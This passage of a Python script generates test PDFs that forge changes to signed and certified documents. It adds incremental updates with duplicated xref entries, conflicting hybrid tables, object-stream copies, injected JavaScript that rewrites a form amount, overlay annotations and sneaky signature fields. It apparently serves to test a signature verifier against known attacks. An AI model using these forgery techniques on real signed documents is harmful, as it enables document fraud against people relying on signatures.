                 30: b"<< /Type /Filespec /F (hoadon.xml) /UF (hoadon.xml) /EF << /F 31 0 R >> >>",
                 31: pdfi.stream(b"<HDon>1000000000000</HDon>", b" /Type /EmbeddedFile")})
    out["other-page-aa-javascript.pdf"] = update(
        signed, {3: page[:-2].rstrip() + b" /AA << /O 30 0 R >> >>", 30: b"<< /S /JavaScript /JS (app.alert\\('1'\\);) >>"})
    out["other-field-aa-javascript.pdf"] = update(
        signed, {9: field[:-2].rstrip() + b" /AA << /K 30 0 R /F 31 0 R >> >>",
                 30: b"<< /S /JavaScript /JS (event.value = '1000000000000';) >>",
                 31: b"<< /S /JavaScript /JS (event.value = '1000000000000';) >>"})
    out["other-field-action.pdf"] = update(
        signed, {9: field[:-2].rstrip() + b" /A 30 0 R >>", 30: b"<< /S /JavaScript /JS (app.alert\\('1'\\);) >>"})
    out["other-oc-default-on.pdf"] = update(signed, {24: b"<< /Order [20 0 R] /ON [20 0 R] >>"})
    out["other-oc-default-off-removed.pdf"] = update(signed, {24: b"<< /Order [20 0 R] >>"})
    out["other-oc-configs-added.pdf"] = update(
        signed, {23: b"<< /OCGs [20 0 R] /D 24 0 R /Configs [30 0 R] >>", 30: b"<< /Name (In) /ON [20 0 R] >>"})
    out["other-oc-group-usage.pdf"] = update(
        signed, {20: b"<< /Type /OCG /Name (Phu luc) /Usage << /View << /ViewState /ON >> /Print << /PrintState /ON >> >> >>"})
    out["other-page-rotate.pdf"] = update(signed, {3: page[:-2].rstrip() + b" /Rotate 90 >>"})
    out["other-page-cropbox.pdf"] = update(signed, {3: page[:-2].rstrip() + b" /CropBox [0 700 595 842] >>"})
    out["other-page-userunit.pdf"] = update(signed, {3: page[:-2].rstrip() + b" /UserUnit 3 >>"})
    out["other-trailer-encrypt.pdf"] = update(
        signed, {30: b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P -4 >>" % (b"00" * 32, b"00" * 32)},
        trailer_extra=b"/Encrypt 30 0 R")
    # The same with an empty user password that viewers open without asking: qpdf encrypts a copy
    # (RC4 128, the file's own /ID), and its /Encrypt dictionary is appended to the signed file.
    out["other-trailer-encrypt-empty-password.pdf"] = update(signed, {30: qpdf_encrypt_dict(signed)},
                                                            trailer_extra=b"/Encrypt 30 0 R")
    out["other-catalog-perms-ur3.pdf"] = update(
        signed, {1: cat[:-2].rstrip() + b" /Perms << /UR3 30 0 R >> >>",
                 30: b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /Reference [<< /Type /SigRef "
                     b"/TransformMethod /UR3 /TransformParams << /Type /TransformParams /V /2.2 /Annots [/Create /Delete /Modify] "
                     b"/Form [/FillIn /Add /Delete] >> >>] /Contents <00> /ByteRange [0 0 0 0] >>"})
    out["other-catalog-needappearances.pdf"] = update(signed, {6: form[:-2].rstrip() + b" /NeedAppearances true >>"})
    out["other-catalog-dss-with-page.pdf"] = update(
        signed, {1: cat[:-2].rstrip() + b" /DSS 30 0 R >>", 30: b"<< /Certs [] >>",
                 3: page.replace(b"/Contents 5 0 R", b"/Contents 11 0 R")})
    # One section listing the page twice, the signed copy and a forged one, in either order (a table,
    # an xref stream); and a hybrid update whose table and /XRefStm disagree. poppler, pdf.js and qpdf
    # take the first entry and the table's: so does kyso, and a forged copy they would not show passes.
    for forged_first in (True, False):
        order = "forged-first" if forged_first else "forged-last"
        out[f"xref-table-entry-twice-{order}.pdf"] = listed_twice(signed, page, forged_first, False)
        out[f"xref-stream-entry-twice-{order}.pdf"] = listed_twice(signed, page, forged_first, True)
        out[f"xref-hybrid-{'table' if forged_first else 'stream'}-forged.pdf"] = hybrid(signed, page, forged_first)
    # Free entry: the content stream freed, and re-used with a higher generation.
    out["xref-free-then-gen1.pdf"] = _free_then_reuse(signed)
    return out


def size_of(signed: bytes) -> int:
    return int(pdfi.trailer_value(pdfi.trailer_dict(signed), b"Size"))


def forged_page(page: bytes) -> bytes:
    return page.replace(b"/Contents 5 0 R", b"/Contents 11 0 R")


def listed_twice(signed: bytes, page: bytes, forged_first: bool, xref_stream: bool) -> bytes:
    out = bytearray(signed)
    size = int(pdfi.trailer_value(pdfi.trailer_dict(signed), b"Size"))
    prev = pdfi.last_startxref(signed)
    a = len(out)
    out += b"3 0 obj\n" + (forged_page(page) if forged_first else page) + b"\nendobj\n"
    b = len(out)
    out += b"3 0 obj\n" + (page if forged_first else forged_page(page)) + b"\nendobj\n"
    x = len(out)
    if not xref_stream:
        out += (b"xref\n0 1\n0000000000 65535 f \n3 1\n%010d 00000 n \n3 1\n%010d 00000 n \ntrailer\n"
                b"<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (a, b, size, prev, x))
    else:
        rows = b"".join(b"\x01" + o.to_bytes(4, "big") + b"\x00\x00" for o in (a, b, x))
        out += (b"%d 0 obj\n<< /Type /XRef /Size %d /Index [3 1 3 1 %d 1] /W [1 4 2] /Root 1 0 R /Prev %d "
                b"/Length %d >>\nstream\n" % (size, size + 1, size, prev, len(rows)) + rows +
                b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % x)
    return bytes(out)


def hybrid(signed: bytes, page: bytes, table_forged: bool) -> bytes:
    out = bytearray(signed)
    size = int(pdfi.trailer_value(pdfi.trailer_dict(signed), b"Size"))
    prev = pdfi.last_startxref(signed)
    a = len(out)
    out += b"3 0 obj\n" + (forged_page(page) if table_forged else page) + b"\nendobj\n"
    b = len(out)
    out += b"3 0 obj\n" + (page if table_forged else forged_page(page)) + b"\nendobj\n"
    s = len(out)
    rows = b"\x01" + b.to_bytes(4, "big") + b"\x00\x00"
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /Index [3 1] /W [1 4 2] /Length %d >>\nstream\n" % (size, size + 1, len(rows))
            + rows + b"\nendstream\nendobj\n")
    x = len(out)
    out += (b"xref\n0 1\n0000000000 65535 f \n3 1\n%010d 00000 n \n%d 1\n%010d 00000 n \ntrailer\n"
            b"<< /Size %d /Root 1 0 R /Prev %d /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n" % (a, size, s, size + 1, prev, s, x))
    return bytes(out)


def objstm_duplicate(signed: bytes, forged_page: bytes) -> bytes:
    """An update whose object stream holds page 3 twice: first as signed, then forged. The xref
    stream's entry names index 0 (the signed copy); a reader that looks objects up by number in the
    stream and keeps the last one shows the forged page."""
    page = body(signed, 3)
    first, second = page + b" ", forged_page + b" "
    header = b"3 0 3 %d " % len(first)
    data = header + first + second
    tail = b"" if signed.endswith(b"\n") else b"\n"
    start = len(signed) + len(tail)
    objstm = b"30 0 obj\n<< /Type /ObjStm /N 2 /First %d /Length %d >>\nstream\n" % (len(header), len(data)) + data + b"\nendstream\nendobj\n"
    xref_at = start + len(objstm)
    rows = b"".join([b"\x02" + (30).to_bytes(4, "big") + (0).to_bytes(2, "big"),
                     b"\x01" + start.to_bytes(4, "big") + (0).to_bytes(2, "big"),
                     b"\x01" + xref_at.to_bytes(4, "big") + (0).to_bytes(2, "big")])
    xref = (b"31 0 obj\n<< /Type /XRef /Size 32 /Index [3 1 30 2] /W [1 4 2] /Root 1 0 R /Prev %d /Length %d >>\nstream\n"
            % (pdfi.last_startxref(signed), len(rows)) + rows + b"\nendstream\nendobj\n")
    return signed + tail + objstm + xref + b"startxref\n%d\n%%%%EOF\n" % xref_at


def qpdf_encrypt_dict(signed: bytes) -> bytes:
    with tempfile.TemporaryDirectory() as work:
        src, dst = os.path.join(work, "in.pdf"), os.path.join(work, "enc.pdf")
        open(src, "wb").write(signed)
        run("qpdf", "--static-id", "--object-streams=disable", "--allow-weak-crypto", "--encrypt", "", "owner", "128", "--use-aes=n", "--",
            src, dst)
        enc = open(dst, "rb").read()
    trailer = pdfi.trailer_dict(enc)
    assert pdfi.trailer_id(trailer) is not None
    num = pdfi.ref_num(re.search(rb"/Encrypt\s+(\d+ \d+ R)", trailer).group(1))
    return pdfi.object_body(enc, num)


def _free_then_reuse(signed: bytes) -> bytes:
    """Object 5 freed in one update, then object 5 generation 1 written in the next (the page still
    says 5 0 R, which reaches nothing: whatever a repairing reader shows, the page content changed)."""
    tail = b"" if signed.endswith(b"\n") else b"\n"
    at = len(signed) + len(tail)
    first = signed + tail + (b"xref\n0 1\n0000000006 65535 f \n5 1\n0000000000 00001 f \ntrailer\n"
                             b"<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size_of(signed), pdfi.last_startxref(signed), at))
    obj_at = len(first)
    obj = b"5 1 obj\n" + pdfi.stream(text_stream(SHADOW)) + b"\nendobj\n"
    xref_at = obj_at + len(obj)
    return first + obj + (b"xref\n0 1\n0000000000 65535 f \n5 1\n%010d 00001 n \ntrailer\n<< /Size %d /Root 1 0 R "
                          b"/Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (obj_at, size_of(signed), at, xref_at))


def certification(certified: bytes, p: int, signer: Signer) -> dict[str, bytes]:
    """Evil Annotation (EAA) and Sneaky Signature (SSA) attacks on a DocMDP certification."""
    out: dict[str, bytes] = {}
    page = 3
    # EAA: annotations of the kinds the paper found viewers allow.
    box = black_box(330, 20)
    annots = {
        "freetext": b"<< /Type /Annot /Subtype /FreeText /Rect [70 720 400 740] /F 4 /Contents (1000000000000) "
                    b"/DA (/Helv 12 Tf 0 g) /P 3 0 R /AP << /N 31 0 R >> >>",
        "stamp": b"<< /Type /Annot /Subtype /Stamp /Rect [70 720 400 740] /F 4 /Name /Approved /P 3 0 R "
                 b"/AP << /N 31 0 R >> >>",
        "square": b"<< /Type /Annot /Subtype /Square /Rect [70 720 400 740] /F 4 /IC [0 0 0] /P 3 0 R "
                  b"/AP << /N 31 0 R >> >>",
        "ink": b"<< /Type /Annot /Subtype /Ink /Rect [70 720 400 740] /F 4 /InkList [[70 730 400 730]] /P 3 0 R "
               b"/AP << /N 31 0 R >> >>",
        "redact": b"<< /Type /Annot /Subtype /Redact /Rect [70 720 400 740] /F 4 /IC [0 0 0] /P 3 0 R "
                  b"/RO 31 0 R /AP << /N 31 0 R >> >>",
        "text-note": b"<< /Type /Annot /Subtype /Text /Rect [400 700 420 720] /F 4 /Contents (Ghi chu) /P 3 0 R >>",
    }
    for name, annot in annots.items():
        out[f"cert-p{p}-eaa-{name}.pdf"] = with_annot(certified, page, 30, annot, box)
    # EAA with code: annotations that run something (allowed under P=3 only as plain annotations).
    js = b"<< /S /JavaScript /JS (this.getField\\('Amount'\\).value = '1000000000000';) >>"
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A 31 0 R /P 3 0 R >>"
    page_body = body(certified, 3)
    with_30 = page_body.replace(b" 13 0 R]", b" 13 0 R 30 0 R]")
    out[f"cert-p{p}-eaa-link-javascript.pdf"] = update(certified, {30: link, 31: js, 3: with_30})
    out[f"cert-p{p}-eaa-link-uri.pdf"] = update(
        certified, {30: link, 31: b"<< /S /URI /URI (http://example.invalid/) >>", 3: with_30})
    out[f"cert-p{p}-eaa-link-goto-next-hide.pdf"] = update(
        certified, {30: link, 31: b"<< /S /GoTo /D [3 0 R /Fit] /Next 32 0 R >>", 32: b"<< /S /Hide /T 13 0 R >>", 3: with_30})
    square = body(certified, 13)
    out[f"cert-p{p}-eaa-overlay-page-open-javascript.pdf"] = update(
        certified, {13: square[:-2].rstrip() + b" /AA << /PO 31 0 R >> >>", 31: js})
    out[f"cert-p{p}-eaa-overlay-setocgstate.pdf"] = update(
        certified, {13: square[:-2].rstrip() + b" /A << /S /SetOCGState /State [/ON 20 0 R] >> >>"})
    out[f"cert-p{p}-eaa-screen.pdf"] = update(
        certified, {30: b"<< /Type /Annot /Subtype /Screen /Rect [70 720 400 740] /F 4 /P 3 0 R /AP << /N 31 0 R >> >>",
                    31: box, 3: with_30})
    if p == 3:
        # A plain GoTo link (allowed), then its action object rewritten into JavaScript by a later update.
        goto = update(certified, {30: link, 31: b"<< /S /GoTo /D [3 0 R /Fit] >>", 3: with_30})
        out["cert-p3-eaa-link-goto.pdf"] = goto
        out["cert-p3-eaa-link-goto-then-javascript.pdf"] = update(goto, {31: js})
    # EAA: the existing text field's widget restyled (a new /MK, a new look, same /V).
    field = body(certified, 9)
    out[f"cert-p{p}-eaa-widget-restyled.pdf"] = update(
        certified, {9: field.replace(b"/N 10 0 R", b"/N 30 0 R")[:-2].rstrip() + b" /MK << /BG [0 0 0] >> >>", 30: black_box(200, 20)})
    # The overlay of the signed revision removed (hide) under the certification.
    out[f"cert-p{p}-eaa-overlay-removed.pdf"] = update(
        certified, {3: body(certified, 3).replace(b" 13 0 R", b"")})
    # Form filling (allowed under P=2 and P=3): the value and its appearance.
    out[f"cert-p{p}-fill-field.pdf"] = update(
        certified, {9: field.replace(b"/V (100)", b"/V (1000000000000)").replace(b"/N 10 0 R", b"/N 12 0 R")})
    # SSA: a new signature field with an appearance over the page, left unsigned...
    widget = (b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (SigSneaky) /Rect [70 720 400 740] /F 4 /P 3 0 R "
              b"/AP << /N 31 0 R >> >>")
    ssa = with_annot(certified, page, 30, widget, box)
    form = body(ssa, 6)
    ssa = update(ssa, {6: form.replace(b"/Fields [", b"/Fields [30 0 R ")})
    out[f"cert-p{p}-ssa-unsigned.pdf"] = ssa
    # ... and the same signed by pdfsig in a second step (a new signature whose appearance overlays).
    try:
        out[f"cert-p{p}-ssa-signed.pdf"] = signer.pdfsig(ssa, "SigSneaky", "organization", T_LATER)
    except subprocess.CalledProcessError:
        pass
    return out


def main() -> None:
    out_dir = sys.argv[1]
    os.makedirs(out_dir, exist_ok=True)
    with tempfile.TemporaryDirectory() as work:
        signer = Signer(work)
        files: dict[str, bytes] = {}
        person = open("pdf/person-signed.pdf", "rb").read()
        files.update(usf(person))
        files.update(isa(person))
        files.update(swa(person, "pdfsig"))
        base = shadow_base()
        signed = signer.pdfsig(base, "SigPerson", "person", T_SIGN)
        files["shadow-base-signed.pdf"] = signed
        files.update(shadow(signed))
        for p in (1, 2, 3):
            certified = signer.certify(base, "SigPerson", p)
            files[f"cert-p{p}.pdf"] = certified
            files.update(certification(certified, p, signer))
            if p == 2:
                files.update(swa(certified, "openssl"))
        for name, data in sorted(files.items()):
            open(os.path.join(out_dir, name), "wb").write(data)


if __name__ == "__main__":
    main()
